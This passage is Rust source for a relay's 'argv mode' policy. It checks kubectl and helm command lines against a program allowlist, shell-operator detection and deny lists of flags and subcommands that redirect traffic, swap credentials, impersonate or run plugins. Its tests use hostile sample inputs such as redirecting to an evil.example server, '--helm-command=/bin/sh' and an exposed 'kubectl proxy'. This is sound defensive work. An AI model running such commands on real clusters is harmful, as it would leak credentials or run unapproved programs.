//! argv mode's policy: a command line runs exactly one program from the cluster's
//! `allowed_programs`, split into words with shell rules but never given to a shell, and
//! that program may not be told to connect somewhere else, as someone else, or to run
//! another program. Every check is a pure function of the command line and refuses
//! before the command starts, naming the operator, flag or subcommand (the caller sees
//! `INVALID_ARGUMENT`).
//!
//! The checks, in order:
//! 1. shell syntax ([`shell_operator`]): a pipe, list, redirection, background `&`,
//!    command substitution or a second line means the caller wrote a shell command; a
//!    quoted or escaped operator is a literal argument and passes;
//! 2. the program must be in `allowed_programs` (as written: `/usr/bin/kubectl` is a
//!    different entry from `kubectl`);
//! 3. for kubectl and helm (chosen by the program's base name, so an allowed absolute
//!    path gets the same policy), the flags in [`KUBECTL_FLAGS`] and [`HELM_FLAGS`] and
//!    any subcommand that is not one of the tool's own ([`KUBECTL_COMMANDS`],
//!    [`HELM_COMMANDS`]: anything else would be a plugin program) are refused.
//!
//! This is one layer, not the whole boundary: the relay also refuses every
//! `Impersonate-*` header a command sends and only knows the command's own token, and
//! the sandbox keeps files out of reach. The lists are kept short and each entry says
//! why it is there; README's "argv mode: what is refused and why" is the same list for
//! operators.

use std::path::Path;

use super::ExecSettings;
pub use crate::command::ArgvRefusal;
use crate::command::ClusterName;
use crate::command::InvalidRequest;

/// Splits an argv-mode command line and checks it against the cluster's policy.
pub fn plan(
    cluster: &ClusterName,
    exec: &ExecSettings,
    command: &str,
) -> Result<Vec<String>, InvalidRequest> {
    let argv = shell_words::split(command).map_err(|err| InvalidRequest::Malformed {
        field: "command",
        message: format!("cannot split into words: {err}"),
    })?;
    let program = argv
        .first()
        .ok_or(InvalidRequest::Missing { field: "command" })?;
    if let Some(token) = shell_operator(command) {
        return Err(ArgvRefusal::ShellOperator {
            program: program.clone(),
            token,
        }
        .into());
    }
    if !exec.allowed_programs.contains(program.as_str()) {
        return Err(InvalidRequest::Malformed {
            field: "command",
            message: format!(
                "program \"{program}\" is not allowed on cluster \"{}\" (allowed: {}); cluster.allowed_programs lists them",
                cluster,
                exec.allowed_programs
                    .iter()
                    .cloned()
                    .collect::<Vec<_>>()
                    .join(", ")
            ),
        });
    }
    check_arguments(&argv)?;
    Ok(argv)
}

// ---------------------------------------------------------------------------------------
// the tools' policies

/// One flag argv mode refuses: its long name as the tool spells it, its shorthand, and
/// what it would do (the end of "it ..." in the message).
#[derive(Debug)]
pub struct RefusedFlag {
    /// Long name without the dashes, e.g. `kubeconfig`.
    pub long: &'static str,
    /// Single-letter form, e.g. `s` for kubectl's `--server`.
    pub short: Option<char>,
    /// Why it is refused.
    pub why: &'static str,
}

const fn flag(long: &'static str, why: &'static str) -> RefusedFlag {
    RefusedFlag {
        long,
        short: None,
        why,
    }
}

const OTHER_KUBECONFIG: &str = "loads another kubeconfig, whose server, credentials and exec credential plugins are not the relay's";
const OTHER_SERVER: &str =
    "sends the command's requests, with its relay token, to another API server";
const OTHER_CREDENTIALS: &str = "replaces the command's credentials with others";
const OTHER_TRUST: &str = "changes which API server certificate is trusted";
const OTHER_ENTRY: &str = "selects another context, cluster or user than the relay's";
const OTHER_IDENTITY: &str =
    "asks to act as another identity (the relay refuses Impersonate-* headers as well)";
const KUBERC: &str =
    "loads kubectl preferences, which can define aliases and allow exec credential plugins";
const KUSTOMIZE_PLUGINS: &str =
    "lets kustomize run plugin programs and function containers named by the kustomization";
const KUSTOMIZE_HELM: &str = "lets kustomize run a helm program, chosen by --helm-command";
const POST_RENDERER: &str = "runs a post-renderer plugin program over the rendered manifests";
const REGISTRY_HELPERS: &str =
    "loads a registry config whose credsStore or credHelpers name programs for helm to run";
const KUSTOMIZE: &str = "runs kustomize, which fetches remote bases with git, and git runs programs named in a base's URL (--upload-pack)";

/// kubectl flags refused in argv mode, whatever their value and in every form kubectl
/// reads them: `--flag value`, `--flag=value`, `--flag_name` (kubectl turns `_` into `-`)
/// and, for `-s`, `-s value`, `-sVALUE`, `-s=VALUE` or after other single-letter flags
/// (`-As URL`). A command's kubeconfig already points at the relay, as the caller.
pub const KUBECTL_FLAGS: &[RefusedFlag] = &[
    // where it connects: the relay is the only way to the cluster
    flag("kubeconfig", OTHER_KUBECONFIG),
    RefusedFlag {
        long: "server",
        short: Some('s'),
        why: OTHER_SERVER,
    },
    // kubectl 1.37+: sends the relay traffic through a proxy of the caller's choosing
    flag("proxy-url", OTHER_SERVER),
    flag("context", OTHER_ENTRY),
    flag("cluster", OTHER_ENTRY),
    flag("user", OTHER_ENTRY),
    // with which credentials: only the command's own relay token
    flag("token", OTHER_CREDENTIALS),
    flag("username", OTHER_CREDENTIALS),
    flag("password", OTHER_CREDENTIALS),
    flag("client-certificate", OTHER_CREDENTIALS),
    flag("client-key", OTHER_CREDENTIALS),
    // whom it trusts: the relay's CA, written by the gateway
    flag("certificate-authority", OTHER_TRUST),
    flag("insecure-skip-tls-verify", OTHER_TRUST),
    flag("tls-server-name", OTHER_TRUST),
    // as whom: the caller, set by the relay
    flag("as", OTHER_IDENTITY),
    flag("as-group", OTHER_IDENTITY),
    flag("as-uid", OTHER_IDENTITY),
    flag("as-user-extra", OTHER_IDENTITY),
    // other programs: kuberc can allow credential plugins; kustomize can run programs
    flag("kuberc", KUBERC),
    RefusedFlag {
        long: "kustomize",
        short: Some('k'),
        why: KUSTOMIZE,
    },
    flag("enable-alpha-plugins", KUSTOMIZE_PLUGINS),
    flag("enable-helm", KUSTOMIZE_HELM),
    flag("helm-command", KUSTOMIZE_HELM),
];

/// helm flags refused in argv mode, in the same forms as kubectl's (helm has no
/// single-letter form of any of them). Left alone on purpose: `--repository-config`,
/// `--repository-cache`, `--content-cache` and chart-repository
/// TLS flags (`--ca-file`, `--cert-file`, `--key-file`, `--insecure-skip-tls-verify` of
/// `helm pull`/`install`) concern chart sources, not the cluster; helm 4 has no
/// `--plugins` flag (plugins come from `$HELM_PLUGINS` or the command's own, empty,
/// home), and plugin subcommands are refused as unknown commands.
pub const HELM_FLAGS: &[RefusedFlag] = &[
    flag("kubeconfig", OTHER_KUBECONFIG),
    flag("kube-apiserver", OTHER_SERVER),
    flag("kube-context", OTHER_ENTRY),
    flag("kube-token", OTHER_CREDENTIALS),
    flag("kube-ca-file", OTHER_TRUST),
    flag("kube-insecure-skip-tls-verify", OTHER_TRUST),
    flag("kube-tls-server-name", OTHER_TRUST),
    flag("kube-as-user", OTHER_IDENTITY),
    flag("kube-as-group", OTHER_IDENTITY),
    flag("post-renderer", POST_RENDERER),
    flag("post-renderer-args", POST_RENDERER),
    flag("registry-config", REGISTRY_HELPERS),
];

/// kubectl's own commands (kubectl 1.35, `kubectl __complete ""` without plugins). Any
/// other first word makes kubectl run `kubectl-<word>` from `PATH`, a program argv mode
/// did not allow, so it is refused; so is `kubectl plugin`, which only lists such
/// programs. `__complete` is not here either: it runs plugin completion programs; nor
/// is `proxy`, which would lend the command's relay credentials (acting as the caller)
/// to whoever reaches its port until the timeout, and serve files with `--www`. A newer
/// kubectl's new commands are refused until they are added here.
pub const KUBECTL_COMMANDS: &[&str] = &[
    "alpha",
    "annotate",
    "api-resources",
    "api-versions",
    "apply",
    "attach",
    "auth",
    "autoscale",
    "certificate",
    "cluster-info",
    "completion",
    "config",
    "cordon",
    "cp",
    "create",
    "debug",
    "delete",
    "describe",
    "diff",
    "drain",
    "edit",
    "events",
    "exec",
    "explain",
    "expose",
    "get",
    "help",
    "label",
    "logs",
    "options",
    "patch",
    "port-forward",
    "replace",
    "rollout",
    "run",
    "scale",
    "set",
    "taint",
    "top",
    "uncordon",
    "version",
    "wait",
];

/// `kubectl create`'s own subcommands and their aliases (kubectl 1.35). kubectl runs
/// any other word after `create` as the plugin `kubectl-create-<word>`, looked up with
/// the word as a path when it holds a `/` (`create x/../evil` runs `./evil`), so argv
/// mode refuses it.
pub const KUBECTL_CREATE_COMMANDS: &[&str] = &[
    "clusterrole",
    "clusterrolebinding",
    "configmap",
    "cm",
    "cronjob",
    "cj",
    "deployment",
    "deploy",
    "ingress",
    "ing",
    "job",
    "namespace",
    "ns",
    "poddisruptionbudget",
    "pdb",
    "priorityclass",
    "pc",
    "quota",
    "resourcequota",
    "role",
    "rolebinding",
    "secret",
    "service",
    "svc",
    "serviceaccount",
    "sa",
    "token",
];

/// helm's own commands (helm 4.1, `helm __complete ""` without plugins). Any other first
/// word is a plugin helm would run; `helm plugin` installs and manages them.
pub const HELM_COMMANDS: &[&str] = &[
    "completion",
    "create",
    "dependency",
    "env",
    "get",
    "help",
    "history",
    "install",
    "lint",
    "list",
    "package",
    "pull",
    "push",
    "registry",
    "repo",
    "rollback",
    "search",
    "show",
    "status",
    "template",
    "test",
    "uninstall",
    "upgrade",
    "verify",
    "version",
];

/// Long flags known to take no value (so the next word is not theirs): the tools' root
/// boolean flags, which decide where the subcommand is, and the common boolean flags seen
/// before a `--`. A long flag not listed is taken to consume the next word, as cobra
/// assumes for flags it does not know; the cost of a missing entry is a `--` that is not
/// believed, so the words after it are still checked (a refusal, never a pass).
const KUBECTL_BOOL_FLAGS: &[&str] = &[
    "help",
    "disable-compression",
    "insecure-skip-tls-verify",
    "match-server-version",
    "warnings-as-errors",
    "all-namespaces",
    "stdin",
    "tty",
    "quiet",
    "watch",
    "recursive",
    "follow",
    "previous",
    "timestamps",
    "ignore-errors",
];

const HELM_BOOL_FLAGS: &[&str] = &[
    "help",
    "debug",
    "kube-insecure-skip-tls-verify",
    "atomic",
    "create-namespace",
    "dry-run",
    "force",
    "install",
    "wait",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Tool {
    Kubectl,
    Helm,
}

impl Tool {
    /// kubectl or helm by the program's base name: `kubectl`, `/usr/bin/kubectl`, or a
    /// versioned copy such as `kubectl-1.37` or `helm4`.
    fn of(program: &str) -> Option<Self> {
        let name = Path::new(program).file_name()?.to_str()?;
        [(Self::Kubectl, "kubectl"), (Self::Helm, "helm")]
            .into_iter()
            .find(|(_, base)| {
                name.strip_prefix(base).is_some_and(|rest| {
                    let mut chars = rest.chars();
                    match chars.next() {
                        None => true,
                        Some(c) if c.is_ascii_digit() => true,
                        Some('-' | '.' | '_') => {
                            chars.next().is_some_and(|c| c.is_ascii_digit() || c == 'v')
                        }
                        _ => false,
                    }
                })
            })
            .map(|(tool, _)| tool)
    }

    fn name(self) -> &'static str {
        match self {
            Self::Kubectl => "kubectl",
            Self::Helm => "helm",
        }
    }

    fn flags(self) -> &'static [RefusedFlag] {
        match self {
            Self::Kubectl => KUBECTL_FLAGS,
            Self::Helm => HELM_FLAGS,
        }
    }

    fn commands(self) -> &'static [&'static str] {
        match self {
            Self::Kubectl => KUBECTL_COMMANDS,
            Self::Helm => HELM_COMMANDS,
        }
    }

    fn bool_flags(self) -> &'static [&'static str] {
        match self {
            Self::Kubectl => KUBECTL_BOOL_FLAGS,
            Self::Helm => HELM_BOOL_FLAGS,
        }
    }

    /// Whether single-letter flag `c` takes a value under `subcommand` (the rest of the
    /// word, or the next word). Unknown letters take one: kubectl and helm stop at an
    /// unknown flag anyway, and treating it as boolean could only hide a later letter.
    fn short_takes_value(self, c: char, subcommand: Option<&str>) -> bool {
        match self {
            Self::Kubectl => match c {
                'A' | 'R' | 'i' | 'q' | 't' | 'h' => false,
                // --watch everywhere but `kubectl proxy -w DIR`
                'w' => subcommand == Some("proxy"),
                // --follow/--previous of `kubectl logs`, --filename/--patch elsewhere
                'f' | 'p' => subcommand != Some("logs"),
                _ => true,
            },
            Self::Helm => !matches!(c, 'h' | 'g' | 'a' | 'A' | 'q'),
        }
    }
}

/// What one word is to the tool's flag parser (pflag).
#[derive(Debug, PartialEq, Eq)]
enum Word<'a> {
    /// `--`, the end of the flags.
    EndOfFlags,
    /// `--name` or `--name=value`; `name` is normalised (`_` → `-`, lower case).
    Long { name: String, inline_value: bool },
    /// `-abc`: single-letter flags (the first one taking a value ends the run).
    Short(&'a str),
    /// Anything else, including `-` (stdin).
    Positional,
}

fn classify(word: &str) -> Word<'_> {
    if word == "--" {
        Word::EndOfFlags
    } else if let Some(long) = word.strip_prefix("--") {
        let (name, inline_value) = match long.split_once('=') {
            Some((name, _)) => (name, true),
            None => (long, false),
        };
        Word::Long {
            name: name.replace('_', "-").to_ascii_lowercase(),
            inline_value,
        }
    } else if let Some(short) = word.strip_prefix('-').filter(|s| !s.is_empty()) {
        Word::Short(short)
    } else {
        Word::Positional
    }
}

/// Checks the arguments of a kubectl or helm command; other programs have no flag policy.
pub fn check_arguments(argv: &[String]) -> Result<(), ArgvRefusal> {
    let Some(tool) = argv.first().and_then(|p| Tool::of(p)) else {
        return Ok(());
    };
    let args = argv.get(1..).unwrap_or_default();
    let subcommand = subcommand_of(tool, args);
    let mut value_of_previous = false;
    for word in args {
        let consumed = std::mem::take(&mut value_of_previous);
        match classify(word) {
            // a `--` ends the flags only where the words after it go to a remote command
            // (`kubectl exec pod -- ls --token`); anywhere else it may be a flag's value
            // the checker misjudged (`helm template -a -- --kubeconfig=x`), so every word
            // after it is checked too; nor does a `--` that is the previous flag's value
            Word::EndOfFlags if !consumed && ends_flags(tool, subcommand) => break,
            Word::EndOfFlags | Word::Positional => {}
            // a flag-looking value (`-l --token`) is checked too: a refusal, never a pass
            Word::Long { name, inline_value } => {
                value_of_previous = check_long(tool, &name, inline_value)? && !consumed;
            }
            Word::Short(letters) => {
                value_of_previous = check_short(tool, letters, subcommand)? && !consumed;
            }
        }
    }
    // after the flags, so a refused flag is named even where it hides the subcommand
    // (`kubectl --kubeconfig get ns` reads `get` as the kubeconfig)
    match subcommand {
        Some(sub) => check_subcommand(tool, sub)?,
        None => return Ok(()),
    }
    if tool == Tool::Kubectl && subcommand == Some("create") {
        let positionals = positionals_of(tool, args);
        if let Some(word) = positionals.get(1)
            && !KUBECTL_CREATE_COMMANDS.contains(word)
        {
            return Err(ArgvRefusal::Subcommand {
                program: tool.name(),
                subcommand: format!("create {word}"),
                why: format!(
                    "\"{word}\" is not one of kubectl create's own commands, and kubectl would run it as the plugin program kubectl-create-{word}; argv mode runs only the cluster's allowed_programs"
                ),
            });
        }
    }
    Ok(())
}

/// Whether a `--` hands the rest of the line to a remote command: only kubectl's `exec`,
/// `run`, `debug` and `attach` have words after it that are not the tool's own.
fn ends_flags(tool: Tool, subcommand: Option<&str>) -> bool {
    tool == Tool::Kubectl && matches!(subcommand, Some("exec" | "run" | "debug" | "attach"))
}

/// The positional words before a `--`, skipping the values of flags that take one (as
/// [`subcommand_of`] reads them: an unknown long flag is taken to have a value, so a
/// misread can only refuse, never let a word pass unseen).
fn positionals_of(tool: Tool, args: &[String]) -> Vec<&str> {
    let mut out = Vec::new();
    let mut skip_next = false;
    for word in args {
        if std::mem::take(&mut skip_next) {
            continue;
        }
        match classify(word) {
            Word::EndOfFlags => break,
            Word::Positional => out.push(word.as_str()),
            Word::Long { name, inline_value } => {
                skip_next = !inline_value && !tool.bool_flags().contains(&name.as_str());
            }
            Word::Short(letters) => {
                skip_next = letters.chars().count() == 1 && letters != "h";
            }
        }
    }
    out
}

/// Refuses a long flag in the tool's table; otherwise whether it takes the next word.
fn check_long(tool: Tool, name: &str, inline_value: bool) -> Result<bool, ArgvRefusal> {
    if let Some(refused) = tool.flags().iter().find(|f| f.long == name) {
        return Err(refusal(tool, refused));
    }
    Ok(!inline_value && !tool.bool_flags().contains(&name))
}

/// Reads `-abc` as pflag does: letters in turn; a letter that takes a value takes the
/// rest of the word (after an optional `=`), or the next word when it is the last.
/// Refuses a letter in the tool's table; otherwise whether the next word is a value.
fn check_short(tool: Tool, letters: &str, subcommand: Option<&str>) -> Result<bool, ArgvRefusal> {
    let mut rest = letters.chars().peekable();
    while let Some(c) = rest.next() {
        if let Some(refused) = tool.flags().iter().find(|f| f.short == Some(c)) {
            return Err(refusal(tool, refused));
        }
        if rest.peek() == Some(&'=') {
            // `-x=value`: the rest is x's value
            return Ok(false);
        }
        if tool.short_takes_value(c, subcommand) {
            return Ok(rest.peek().is_none());
        }
    }
    Ok(false)
}

fn refusal(tool: Tool, refused: &RefusedFlag) -> ArgvRefusal {
    let flag = match refused.short {
        Some(short) => format!("-{short}/--{}", refused.long),
        None => format!("--{}", refused.long),
    };
    ArgvRefusal::Flag {
        program: tool.name(),
        flag,
        why: refused.why,
    }
}

/// The subcommand, found as cobra finds it: the first word that is neither a flag nor
/// the value of one (a long flag without `=` that is not known to be boolean takes the
/// next word, and so does a lone single-letter flag other than `-h`).
fn subcommand_of(tool: Tool, args: &[String]) -> Option<&str> {
    let mut skip_next = false;
    for word in args {
        if std::mem::take(&mut skip_next) {
            continue;
        }
        match classify(word) {
            Word::EndOfFlags => return None,
            Word::Positional => return Some(word),
            Word::Long { name, inline_value } => {
                skip_next = !inline_value && !tool.bool_flags().contains(&name.as_str());
            }
            Word::Short(letters) => {
                skip_next = letters.chars().count() == 1 && letters != "h";
            }
        }
    }
    None
}

fn check_subcommand(tool: Tool, subcommand: &str) -> Result<(), ArgvRefusal> {
    if tool.commands().contains(&subcommand) {
        return Ok(());
    }
    let why = match (tool, subcommand) {
        (Tool::Kubectl, "plugin") => "kubectl plugins are programs of their own, which argv mode does not run, so there is nothing to list".to_owned(),
        (Tool::Kubectl, "kustomize") => "kustomize fetches remote bases with git, and git runs programs named in a base's URL (ref=--upload-pack=...); render kustomizations in a shell-mode cluster, or apply rendered manifests".to_owned(),
        (Tool::Kubectl, "proxy") => "it would lend the command's credentials, which act as the caller, to whoever reaches its port; argv mode runs one-shot commands such as get, apply or logs".to_owned(),
        (Tool::Helm, "plugin") => "helm plugins are programs of their own, which argv mode does not install or run".to_owned(),
        (Tool::Kubectl, _) => format!(
            "\"{subcommand}\" is not a kubectl command, and kubectl would run it as the plugin program kubectl-{subcommand} from PATH; argv mode runs only the cluster's allowed_programs"
        ),
        (Tool::Helm, _) => format!(
            "\"{subcommand}\" is not a helm command, and helm would run it as a plugin program; argv mode runs only the cluster's allowed_programs"
        ),
    };
    Err(ArgvRefusal::Subcommand {
        program: tool.name(),
        subcommand: subcommand.to_owned(),
        why,
    })
}

// ---------------------------------------------------------------------------------------
// shell syntax

/// How a character of the line was written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Quoting {
    /// Outside quotes, not escaped: a shell would act on it.
    Bare,
    /// After a backslash outside quotes, or inside single quotes: literal.
    Literal,
    /// Inside double quotes: literal except `$(` and backquotes, which a shell expands.
    Double,
}

/// The line as `shell_words::split` reads it: words of characters with their quoting,
/// and the bare newlines between words (each starts a new command in a shell).
#[derive(Debug, PartialEq, Eq)]
enum Lexeme {
    Word(Vec<(char, Quoting)>),
    Newline,
}

/// The same state machine as `shell_words::split` (quotes, backslashes, `#` comments),
/// keeping how each character was quoted. `None` for an unclosed quote, which `split`
/// has already refused.
fn lex(line: &str) -> Option<Vec<Lexeme>> {
    #[derive(Clone, Copy)]
    enum State {
        Delimiter,
        Backslash,
        Unquoted,
        UnquotedBackslash,
        SingleQuoted,
        DoubleQuoted,
        DoubleQuotedBackslash,
        Comment,
    }
    use State::*;
    let mut lexemes = Vec::new();
    let mut word: Vec<(char, Quoting)> = Vec::new();
    let mut state = Delimiter;
    let mut chars = line.chars();
    loop {
        let c = chars.next();
        state = match (state, c) {
            (Delimiter, None) | (Comment, None) => break,
            (Delimiter, Some('\'')) | (Unquoted, Some('\'')) => SingleQuoted,
            (Delimiter, Some('"')) | (Unquoted, Some('"')) => DoubleQuoted,
            (Delimiter, Some('\\')) => Backslash,
            (Delimiter, Some('\n')) | (Comment, Some('\n')) => {
                lexemes.push(Lexeme::Newline);
                Delimiter
            }
            (Delimiter, Some('\t' | ' ')) => Delimiter,
            (Delimiter, Some('#')) => Comment,
            (Delimiter, Some(c)) => {
                word.push((c, Quoting::Bare));
                Unquoted
            }
            (Backslash, None) | (UnquotedBackslash, None) => {
                word.push(('\\', Quoting::Bare));
                lexemes.push(Lexeme::Word(std::mem::take(&mut word)));
                break;
            }
            (Backslash, Some('\n')) => Delimiter,
            (UnquotedBackslash, Some('\n')) => Unquoted,
            (Backslash, Some(c)) | (UnquotedBackslash, Some(c)) => {
                word.push((c, Quoting::Literal));
                Unquoted
            }
            (Unquoted, None) => {
                lexemes.push(Lexeme::Word(std::mem::take(&mut word)));
                break;
            }
            (Unquoted, Some('\\')) => UnquotedBackslash,
            (Unquoted, Some(c @ ('\t' | ' ' | '\n'))) => {
                lexemes.push(Lexeme::Word(std::mem::take(&mut word)));
                if c == '\n' {
                    lexemes.push(Lexeme::Newline);
                }
                Delimiter
            }
            (Unquoted, Some(c)) => {
                word.push((c, Quoting::Bare));
                Unquoted
            }
            (SingleQuoted, None) | (DoubleQuoted, None) | (DoubleQuotedBackslash, None) => {
                return None;
            }
            (SingleQuoted, Some('\'')) | (DoubleQuoted, Some('"')) => Unquoted,
            (SingleQuoted, Some(c)) => {
                word.push((c, Quoting::Literal));
                SingleQuoted
            }
            (DoubleQuoted, Some('\\')) => DoubleQuotedBackslash,
            (DoubleQuoted, Some(c)) => {
                word.push((c, Quoting::Double));
                DoubleQuoted
            }
            (DoubleQuotedBackslash, Some('\n')) => DoubleQuoted,
            (DoubleQuotedBackslash, Some(c @ ('$' | '`' | '"' | '\\'))) => {
                word.push((c, Quoting::Literal));
                DoubleQuoted
            }
            (DoubleQuotedBackslash, Some(c)) => {
                word.push(('\\', Quoting::Literal));
                word.push((c, Quoting::Double));
                DoubleQuoted
            }
            (Comment, Some(_)) => Comment,
        };
    }
    Some(lexemes)
}

/// Characters that make bare words into control operators and redirections.
fn is_operator_char(c: char) -> bool {
    matches!(c, '|' | '&' | ';' | '<' | '>')
}

/// The first shell operator a shell would act on in `line`, as written: a control
/// operator or redirection made of bare `| & ; < >` (alone, like `|`, `&&`, `2>&1`, or
/// inside a word, like `a;b`), a command substitution (`$(` or a backquote, bare or in
/// double quotes), or a bare newline between two words. Quoted or escaped, they are
/// literal arguments: `'|'`, `"a|b"`, `\;` pass. `$VAR` and globs are left alone: the
/// program gets them literally, which is argv mode's promise, and jsonpath and
/// selectors use `$`, `*`, `?`, `(`, `)` and `!`.
pub fn shell_operator(line: &str) -> Option<String> {
    let lexemes = lex(line)?;
    let mut seen_word = false;
    let mut pending_newline = false;
    for lexeme in &lexemes {
        match lexeme {
            Lexeme::Newline => pending_newline = seen_word,
            Lexeme::Word(word) => {
                if pending_newline {
                    return Some("\n".to_owned());
                }
                seen_word = true;
                if let Some(op) = operator_in(word) {
                    return Some(op);
                }
            }
        }
    }
    None
}

fn operator_in(word: &[(char, Quoting)]) -> Option<String> {
    let expands = |q: Quoting| matches!(q, Quoting::Bare | Quoting::Double);
    let bare_digit = |&(c, q): &(char, Quoting)| q == Quoting::Bare && c.is_ascii_digit();
    for (i, &(c, q)) in word.iter().enumerate() {
        if c == '`' && expands(q) {
            return Some("`".to_owned());
        }
        if c == '$' && expands(q) && word.get(i + 1) == Some(&('(', q)) {
            return Some("$(".to_owned());
        }
        if q == Quoting::Bare && is_operator_char(c) {
            let run_end = word[i..]
                .iter()
                .position(|&(c, q)| q != Quoting::Bare || !is_operator_char(c))
                .map_or(word.len(), |n| i + n);
            // a file-descriptor number written before it belongs to it: `2>`
            let start = if word[..i].iter().all(bare_digit) {
                0
            } else {
                i
            };
            // as a whole bare word, its target too: `2>&1`, `>&2`, `2>&-`
            let target = &word[run_end..];
            let end = if start == 0
                && !target.is_empty()
                && (target.iter().all(bare_digit) || target == [('-', Quoting::Bare)])
            {
                word.len()
            } else {
                run_end
            };
            return Some(word[start..end].iter().map(|&(c, _)| c).collect());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::exec::ExecMode;

    fn cluster(programs: &[&str]) -> ExecSettings {
        ExecSettings {
            mode: ExecMode::Argv,
            allowed_programs: programs.iter().map(|p| (*p).to_owned()).collect(),
            ..ExecSettings::default()
        }
    }

    fn name() -> ClusterName {
        ClusterName::parse("c").unwrap()
    }

    fn default_cluster() -> ExecSettings {
        cluster(&[
            "kubectl",
            "helm",
            "/usr/local/bin/kubectl",
            "/opt/helm/bin/helm",
            "kubectl-1.37",
            "jq",
        ])
    }

    fn refusal_of(line: &str) -> String {
        match plan(&name(), &default_cluster(), line) {
            Ok(argv) => panic!("{line:?} was allowed as {argv:?}"),
            Err(err) => err.to_string(),
        }
    }

    fn allowed(line: &str) -> Vec<String> {
        plan(&name(), &default_cluster(), line).unwrap_or_else(|err| panic!("{line:?}: {err}"))
    }

    /// Every form of a long flag a tool reads, with and without a value.
    fn long_forms(long: &str) -> Vec<String> {
        let underscored = long.replace('-', "_");
        vec![
            format!("--{long} x"),
            format!("--{long}=x"),
            format!("--{long}"),
            format!("--{long}="),
            format!("--{underscored}=x"),
        ]
    }

    #[test]
    fn every_refused_kubectl_flag_is_refused_in_every_form_and_position() {
        for refused in KUBECTL_FLAGS {
            for form in long_forms(refused.long) {
                for program in ["kubectl", "/usr/local/bin/kubectl", "kubectl-1.37"] {
                    for line in [
                        format!("{program} {form} get ns"),
                        format!("{program} get ns {form}"),
                        format!("{program} -n demo get pods {form} -o name"),
                    ] {
                        let err = refusal_of(&line);
                        assert!(
                            err.contains(&format!("--{} of kubectl", refused.long)),
                            "{line}: {err}"
                        );
                        assert!(err.contains(refused.why), "{line}: {err}");
                    }
                }
            }
        }
    }

    #[test]
    fn every_refused_helm_flag_is_refused_in_every_form_and_position() {
        for refused in HELM_FLAGS {
            for form in long_forms(refused.long) {
                for program in ["helm", "/opt/helm/bin/helm"] {
                    for line in [
                        format!("{program} {form} list"),
                        format!("{program} install web ./chart {form}"),
                        format!("{program} upgrade --install web ./chart -n demo {form}"),
                    ] {
                        let err = refusal_of(&line);
                        assert!(
                            err.contains(&format!("--{} of helm", refused.long)),
                            "{line}: {err}"
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn kubectls_server_shorthand_is_refused_in_every_form() {
        for line in [
            "kubectl -s https://evil.example get ns",
            "kubectl -shttps://evil.example get ns",
            "kubectl -s=https://evil.example get ns",
            "kubectl get ns -s https://evil.example",
            // after boolean letters, pflag still reads -s with its value
            "kubectl get pods -As https://evil.example",
            "kubectl get pods -wAs=https://evil.example",
            "kubectl logs -fs https://evil.example web",
            "kubectl exec -its https://evil.example web -- ls",
        ] {
            let err = refusal_of(line);
            assert!(err.contains("-s/--server of kubectl"), "{line}: {err}");
        }
    }

    #[test]
    fn an_s_inside_a_value_is_not_the_server_flag() {
        for line in [
            "kubectl get pods -nkube-system",
            "kubectl get pods -n kube-system -lapp=sso",
            "kubectl get pods -oyaml -lsvc=web",
            "kubectl apply -fservice.yaml",
            "kubectl patch deploy web -p{\"spec\":{\"replicas\":2}}",
            "kubectl exec -cside web -- ls",
            "kubectl get pods -A=true -lsso",
            // helm's -s is --show-only, which is harmless
            "helm template web ./chart -s templates/service.yaml",
        ] {
            allowed(line);
        }
    }

    #[test]
    fn words_after_a_double_dash_are_the_remote_commands_not_kubectl_flags() {
        for line in [
            "kubectl exec web -- ls --token",
            "kubectl exec web -- sh -c 'kubectl --kubeconfig=/x get ns'",
            "kubectl exec -it web -c main -- env --server=x -s y",
            "kubectl exec web --stdin --tty -- cat --as=admin",
            "kubectl debug web -it --image=busybox -- sh -c --token",
            "kubectl run tmp --image=busybox --restart=Never -- --user=root",
        ] {
            allowed(line);
        }
    }

    #[test]
    fn a_double_dash_that_is_a_flags_value_does_not_end_the_flags() {
        for (line, flag) in [
            ("kubectl get pods -l -- --token=x", "--token"),
            (
                "kubectl get pods --selector -- --kubeconfig=/x",
                "--kubeconfig",
            ),
            ("kubectl exec web -c -- -- ls", ""),
            ("kubectl get pods -n -- -s x", "-s/--server"),
        ] {
            if flag.is_empty() {
                allowed(line);
            } else {
                let err = refusal_of(line);
                assert!(err.contains(&format!("{flag} of kubectl")), "{line}: {err}");
            }
        }
    }

    #[test]
    fn plugins_and_plugin_commands_are_refused() {
        let cases = [
            ("kubectl foo", "\"kubectl foo\""),
            ("kubectl krew install x", "kubectl-krew from PATH"),
            ("kubectl -n demo neat get pods", "\"kubectl neat\""),
            ("kubectl plugin list", "\"kubectl plugin\""),
            ("kubectl __complete get ''", "\"kubectl __complete\""),
            ("/usr/local/bin/kubectl whoami", "\"kubectl whoami\""),
            ("helm plugin install https://x", "\"helm plugin\""),
            ("helm -n demo plugin list", "\"helm plugin\""),
            ("helm --debug plugin list", "\"helm plugin\""),
            ("helm diff upgrade web ./chart", "\"helm diff\""),
            (
                "kubectl proxy --address=0.0.0.0 --accept-hosts=.*",
                "\"kubectl proxy\"",
            ),
        ];
        for (line, expected) in cases {
            let err = refusal_of(line);
            assert!(err.contains(expected), "{line}: {err}");
        }
    }

    #[test]
    fn the_tools_own_commands_pass() {
        for line in [
            "kubectl",
            "kubectl --help",
            "kubectl version --client",
            "kubectl -n demo get pods",
            "kubectl --namespace demo --request-timeout 5s get pods",
            "kubectl --warnings-as-errors get pods",
            "kubectl -v 6 get pods",
            "kubectl auth whoami",
            "kubectl exec web -- ls",
            "kubectl debug node/x -it --image=busybox",
            "kubectl config view",
            "helm list -A",
            "helm -n demo status web",
            "helm --debug install web ./chart --set a=b",
            "helm upgrade --install web ./chart --repository-config ./repos.yaml",
            "jq --token -s .",
        ] {
            allowed(line);
        }
    }

    #[test]
    fn kustomize_options_that_run_programs_are_refused() {
        for (line, flag) in [
            ("kubectl kustomize ./o --enable-helm", "--enable-helm"),
            (
                "kubectl kustomize ./o --helm-command=/bin/sh",
                "--helm-command",
            ),
            (
                "kubectl kustomize ./o --enable-alpha-plugins",
                "--enable-alpha-plugins",
            ),
            ("kubectl --kuberc ./kuberc get pods", "--kuberc"),
            ("kubectl apply -k ./overlay", "-k/--kustomize"),
            ("kubectl apply --kustomize=./overlay", "-k/--kustomize"),
            ("kubectl delete -nx -k .", "-k/--kustomize"),
        ] {
